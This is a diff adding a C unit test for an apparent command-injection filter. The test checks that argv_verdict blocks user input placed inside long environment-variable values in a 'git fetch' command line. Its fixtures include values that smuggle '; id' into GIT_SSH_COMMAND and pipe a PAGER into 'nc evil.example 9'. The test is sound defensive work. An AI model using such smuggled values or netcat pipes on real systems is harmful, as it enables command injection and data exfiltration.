@@ -182,6 +182,31 @@ static void a_command_nested_past_the_depth_bound_is_judged_or_closed(void **sta
 	assert_int_equal(bad, 0);
 }
 
+static void an_env_command_value_past_1_kb_is_judged(void **state)
+{
+	const char *env[] = {"env", NULL, "git", "fetch", "origin", NULL};
+	int bad = 0;
+
+	(void)state;
+	/* fb8d351: allowed past 1 KB */
+	env[1] = longer("GIT_SSH_COMMAND=ssh -i /keys/", 1500, " -p 22 x; id");
+	bad += BAD(argv_verdict("x; id", env) != MOAT_BLOCK);
+	env[1] = longer("PAGER=less -R ", 3000, "|nc evil.example 9");
+	bad += BAD(argv_verdict("|nc evil.example 9", env) != MOAT_BLOCK);
+	/* short: blocked on fb8d351 too */
+	env[1] = longer("GIT_SSH_COMMAND=ssh -i /keys/", 15, " -p 22 x; id");
+	bad += BAD(argv_verdict("x; id", env) != MOAT_BLOCK);
+	/* twins: the input elsewhere (the remote's name), or inert in a long
+	 * value (a harmless word in a long command value fails closed: the
+	 * price) */
+	env[1] = longer("GIT_SSH_COMMAND=ssh -p 22 -i /keys/", 1500, " deploy_ed25519");
+	env[4] = "upstream";
+	bad += BAD(argv_verdict("upstream", env) != MOAT_ALLOW);
+	env[4] = "origin";
+	bad += BAD(argv_verdict("deploy_ed25519", env) != MOAT_BLOCK);
+	assert_int_equal(bad, 0);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -189,6 +214,7 @@ int main(void)
 	    cmocka_unit_test(a_command_string_past_the_eighth_is_judged),
 	    cmocka_unit_test(a_command_string_past_4_kb_is_judged_or_closed),
 	    cmocka_unit_test(a_command_nested_past_the_depth_bound_is_judged_or_closed),
+	    cmocka_unit_test(an_env_command_value_past_1_kb_is_judged),
 	};
 	return cmocka_run_group_tests(tests, group_setup, group_teardown);
 }
